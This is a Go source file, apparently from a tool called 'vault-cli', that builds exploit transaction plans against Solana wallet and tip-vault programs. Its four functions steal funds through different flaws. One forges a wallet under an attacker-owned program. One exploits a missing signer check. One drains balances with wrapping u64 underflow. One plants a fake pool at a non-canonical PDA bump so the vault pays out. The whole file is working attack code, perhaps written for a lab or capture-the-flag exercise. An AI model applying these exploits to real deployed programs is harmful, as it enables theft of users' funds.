package exploit

import (
	"fmt"

	"github.com/gagliardetto/solana-go"

	"vault-cli/codec"
	"vault-cli/pda"
	"vault-cli/programs/attacker"
	"vault-cli/programs/tip"
	"vault-cli/programs/walletv0"
	"vault-cli/programs/walletv1"
	"vault-cli/programs/walletv2"
)

// DefaultFakePoolBump is the bump the fee redirect uses for its fake pool
// when it yields a valid address.
const DefaultFakePoolBump uint8 = 0x2f

// FakeWallet withdraws from a wallet-v0 vault through a wallet the attacker
// forged under their own program. The victim program only checks that the
// wallet account names the vault and the signing authority, not that it owns
// the wallet account.
func FakeWallet(victimProgram, attackerProgram, attackerKey, vault solana.PublicKey, amount uint64) (*Plan, error) {
	fakeWallet, _, err := attacker.FakeWalletAddress(attackerProgram, attackerKey)
	if err != nil {
		return nil, fmt.Errorf("failed to derive fake wallet: %w", err)
	}

	p := newPlan("fake-wallet")
	p.Accounts["fake_wallet"] = fakeWallet
	p.Accounts["vault"] = vault

	p.add("forge wallet", attackerOnly,
		attacker.ForgeWallet(attackerProgram, fakeWallet, attackerKey, vault),
	)
	p.add("withdraw", attackerOnly,
		walletv0.Withdraw(victimProgram, fakeWallet, vault, attackerKey, attackerKey, amount),
	)
	return p, nil
}

// MissingSigner withdraws from the victim's wallet-v1 wallet by naming the
// victim authority in a slot the program never requires to sign.
func MissingSigner(program, victimAuthority, attackerKey solana.PublicKey, amount uint64) (*Plan, error) {
	wallet, _, err := walletv1.WalletAddress(program, victimAuthority)
	if err != nil {
		return nil, fmt.Errorf("failed to derive victim wallet: %w", err)
	}

	p := newPlan("missing-signer")
	p.Accounts["wallet"] = wallet

	p.add("withdraw", attackerOnly,
		walletv1.Withdraw(program, wallet, victimAuthority, attackerKey, amount),
	)
	return p, nil
}

// DrainIterations is the number of wrapped withdraws needed to move balance
// in rent sized increments.
func DrainIterations(balance, rent uint64) (uint64, error) {
	if rent == 0 {
		return 0, &codec.DomainError{Field: "rent", Value: "0", Reason: "must be positive"}
	}
	n := balance / rent
	if balance%rent != 0 {
		n++
	}
	return n, nil
}

// WrappedDrain empties a wallet-v2 wallet. The attacker opens their own
// wallet and withdraws 2^64 - rent from it into the victim wallet. The
// program subtracts with wrapping arithmetic, so each withdraw moves rent
// lamports from the victim to the attacker instead.
func WrappedDrain(program, attackerKey, victimWallet solana.PublicKey, victimBalance, rent uint64) (*Plan, error) {
	iterations, err := DrainIterations(victimBalance, rent)
	if err != nil {
		return nil, err
	}

	initIx, attackerWallet, err := walletv2.Initialize(program, attackerKey)
	if err != nil {
		return nil, fmt.Errorf("failed to derive attacker wallet: %w", err)
	}

	p := newPlan("wrapped-drain")
	p.Accounts["attacker_wallet"] = attackerWallet
	p.Accounts["victim_wallet"] = victimWallet

	p.add("initialize attacker wallet", attackerOnly, initIx)

	amount := codec.WrappingNeg(rent)
	for i := uint64(0); i < iterations; i++ {
		p.add(fmt.Sprintf("drain %d/%d", i+1, iterations), attackerOnly,
			walletv2.Withdraw(program, attackerWallet, attackerKey, victimWallet, amount),
		)
	}
	return p, nil
}

// FakePoolBump picks the bump for the fee redirect's fake pool. It prefers
// DefaultFakePoolBump and otherwise searches downward for a valid bump other
// than the canonical vault bump.
func FakePoolBump(program solana.PublicKey) (uint8, error) {
	_, canonical, err := tip.VaultAddress(program)
	if err != nil {
		return 0, err
	}

	if DefaultFakePoolBump != canonical {
		if _, err := pda.DeriveWithExplicitBump(program, DefaultFakePoolBump); err == nil {
			return DefaultFakePoolBump, nil
		}
	}
	for b := int(canonical) - 1; b >= 0; b-- {
		if _, err := pda.DeriveWithExplicitBump(program, uint8(b)); err == nil {
			return uint8(b), nil
		}
	}
	return 0, pda.ErrExhaustedBumpSeeds
}

// FeeRedirect drains the tip vault through a second vault the attacker
// initializes at a non-canonical bump. Its fee slot carries the integer
// image of amount and its fee recipient names the real vault, so read as a
// pool it grants the attacker amount lamports of the real vault.
func FeeRedirect(program solana.PublicKey, bump uint8, attackerKey, vault solana.PublicKey, amount uint64) (*Plan, error) {
	var feeSlot [codec.F64Size]byte
	copy(feeSlot[:], codec.EncodeU64(amount))

	initIx, fakePool, err := tip.InitializeRaw(program, bump, attackerKey, feeSlot, vault)
	if err != nil {
		return nil, fmt.Errorf("failed to derive fake pool at bump %d: %w", bump, err)
	}

	p := newPlan("fee-redirect")
	p.Accounts["fake_pool"] = fakePool
	p.Accounts["vault"] = vault

	p.add("create fake pool", attackerOnly, initIx)
	p.add("withdraw", attackerOnly,
		tip.Withdraw(program, vault, fakePool, attackerKey, amount),
	)
	return p, nil
}
